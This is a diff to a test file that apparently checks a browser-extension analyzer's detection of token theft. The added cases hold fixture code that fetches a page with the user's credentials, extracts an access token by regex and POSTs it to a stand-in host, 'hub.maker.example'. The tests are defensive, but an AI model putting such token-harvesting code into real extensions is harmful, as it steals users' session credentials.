@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest';
 import { analyze } from '../../analyze.ts';
 import { memoryTree } from '../../sources/memory.ts';
+import { graded } from '../../testing/graded.ts';
 
 /** A site's token that goes back to the site, by a helper that is given the address. */
 
@@ -50,4 +51,19 @@ test.each([
     ({ rule, severity }) => rule === 'token-taken-from-page' && (severity === 'critical' || severity === 'high'),
   );
   expect(heavy.length === 0).toBe(isOwn);
+});
+
+/** A token that is looked for in what a site answers, of which the manifest names site and maker alike. */
+const ASKED = 'const t = await (await fetch("SITE", { credentials: "include" })).text(); const m = EXPRESSION.exec(t);';
+const SENT = 'await fetch("https://hub.maker.example/t", { method: "POST", body: m[1] });';
+test.each([
+  ['in markup', 'https://app.site.example/me', '/accessToken="([^"]+)"/', true],
+  ['in JSON', 'https://app.site.example/me', '/"access_token":"(.*?)"/', true],
+  ['in JSON with spaces', 'https://app.site.example/me', '/"accessToken"\\s*:\\s*"([^"]+)/', true],
+  ['that looks like the own one', 'https://hub.maker.example.site.example/me', '/"accessToken":"([^"]+)"/', true],
+  ['of the own server, which gets it back', 'https://app.maker.example/me', '/"accessToken":"([^"]+)"/', false],
+])('a token %s', async (_, site, expression, isTaken) => {
+  const background = `chrome.alarms.onAlarm.addListener(async () => { ${ASKED.replace('SITE', site).replace('EXPRESSION', () => expression)} ${SENT} });`;
+  const manifest = { host_permissions: ['https://*.site.example/*', 'https://hub.maker.example/*'] };
+  expect((await graded({ background, manifest })) === 'D').toBe(isTaken);
 });
